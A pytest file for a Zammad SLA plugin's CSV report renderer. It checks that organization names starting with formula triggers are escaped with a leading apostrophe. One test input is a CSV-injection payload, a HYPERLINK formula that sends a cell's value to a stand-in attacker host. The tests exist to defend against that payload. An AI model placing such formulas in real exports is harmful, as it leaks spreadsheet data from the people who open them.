"""CSV report cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from zammad_sla_plugin.report.render_csv import CSV_COLUMNS, neutralise, render_csv


def group(key: str) -> dict[str, Any]:
    clock = {"met": 1, "failed": 1, "pending": 0, "met_pct": 50.0}
    hours = {"count": 2, "median": -1.5, "p90": 3.0}
    return {"key": key, "tickets": 2, "in_scope": 2, "excluded": 0, "not_applicable": 0, "breached_open": 1,
            "excluded_with_evidence": 0, "claimed_without_evidence": 0, "first_response": clock, "resolution": clock,
            "time_to_assignment_hours": hours, "time_to_resolution_hours": hours}  # fmt: skip


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]
)
def test_organization_names_never_become_formulas(name: str) -> None:
    document = {"totals": group("total"), "by_severity": [], "by_organization": [group(name)], "by_month": []}
    rows = list(csv.DictReader(io.StringIO(render_csv(document))))
    [organization] = [row for row in rows if row["scope"] == "organization"]
    assert organization["key"] == "'" + name
    assert list(rows[0]) == list(CSV_COLUMNS)


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    assert neutralise(-1.5) == -1.5 and neutralise(0) == 0
    assert neutralise("Aivo S.A.") == "Aivo S.A." and neutralise("2026-03") == "2026-03"
    document = {"totals": group("total"), "by_severity": [group("high")], "by_organization": [], "by_month": []}
    rows = list(csv.DictReader(io.StringIO(render_csv(document))))
    assert rows[1]["key"] == "high" and rows[1]["time_to_assignment_median_hours"] == "-1.5"
